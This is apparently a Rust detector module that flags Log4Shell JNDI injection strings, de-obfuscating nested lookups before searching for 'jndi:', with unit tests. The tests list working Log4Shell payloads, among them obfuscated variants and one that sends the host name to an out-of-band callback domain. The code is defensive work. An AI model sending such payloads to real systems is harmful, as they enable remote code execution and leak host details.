//! JNDI lookups (Log4Shell): nested lookups such as `${lower:j}`,
//! `${::-n}`, `${env:X:-d}` are resolved first, then `${jndi:` is sought.

use crate::text::{Hits, Text};
use crate::{Family, score};

const MAX_DEPTH: usize = 64;

pub(crate) fn check(t: &Text, hits: &mut Hits) {
    let b = t.bytes();
    let dollar = if t.may_contain(b"${") {
        crate::text::find_bytes(b, b"${")
    } else {
        None
    };
    let Some(first) = dollar else {
        if let Some(p) = t.find("jndi:") {
            let rest = &b[p + 5..];
            if [
                &b"ldap"[..],
                b"rmi",
                b"dns",
                b"iiop",
                b"corba",
                b"nds",
                b"nis",
            ]
            .iter()
            .any(|s| rest.starts_with(s))
            {
                hits.add(Family::Jndi, score::MEDIUM + 1, "jndi.bare", p);
            }
        }
        return;
    };
    if resolves_to_jndi(&b[first..]) {
        hits.add(Family::Jndi, score::STRONG, "jndi.lookup", first);
    }
}

/// Evaluate lookups with a stack; true when a lookup's resolved content
/// starts with `jndi:`.
fn resolves_to_jndi(b: &[u8]) -> bool {
    let mut out: Vec<u8> = Vec::with_capacity(b.len().min(4096));
    let mut stack: Vec<usize> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
            if stack.len() >= MAX_DEPTH {
                return false;
            }
            stack.push(out.len());
            i += 2;
            continue;
        }
        if b[i] == b'}' {
            if let Some(m) = stack.pop() {
                let content = out.split_off(m);
                if content.starts_with(b"jndi:") {
                    return true;
                }
                out.extend_from_slice(&resolve(&content));
                i += 1;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    stack.iter().any(|&m| out[m..].starts_with(b"jndi:"))
}

fn resolve(content: &[u8]) -> Vec<u8> {
    if let Some(p) = crate::text::find_bytes(content, b":-") {
        return content[p + 2..].to_vec();
    }
    for prefix in [&b"lower:"[..], b"upper:"] {
        if let Some(rest) = content.strip_prefix(prefix) {
            return rest.to_vec();
        }
    }
    if let Some(rest) = content.strip_prefix(b"date:") {
        return rest.iter().copied().filter(|&c| c != b'\'').collect();
    }
    b"x".to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score_of(s: &str) -> u32 {
        let lower = s.to_ascii_lowercase();
        let t = Text::new(s, &lower);
        let mut h = Hits::default();
        check(&t, &mut h);
        h.best(Family::Jndi)
    }

    #[test]
    fn attacks() {
        for a in [
            "${jndi:ldap://${hostName}.w63gecoroprj5um8ypnd7r6in9t0hseg3.oast.me/a}",
            "${${lower:j}ndi:${lower:l}dap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${jndi:dns://x}",
        ] {
            assert!(score_of(a) >= score::STRONG, "missed: {a}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "${HOME}/bin",
            "costs ${price}",
            "jndi is a Java API",
            "${${${${",
        ] {
            assert!(score_of(b) < score::MEDIUM - 1, "false positive: {b}");
        }
    }
}
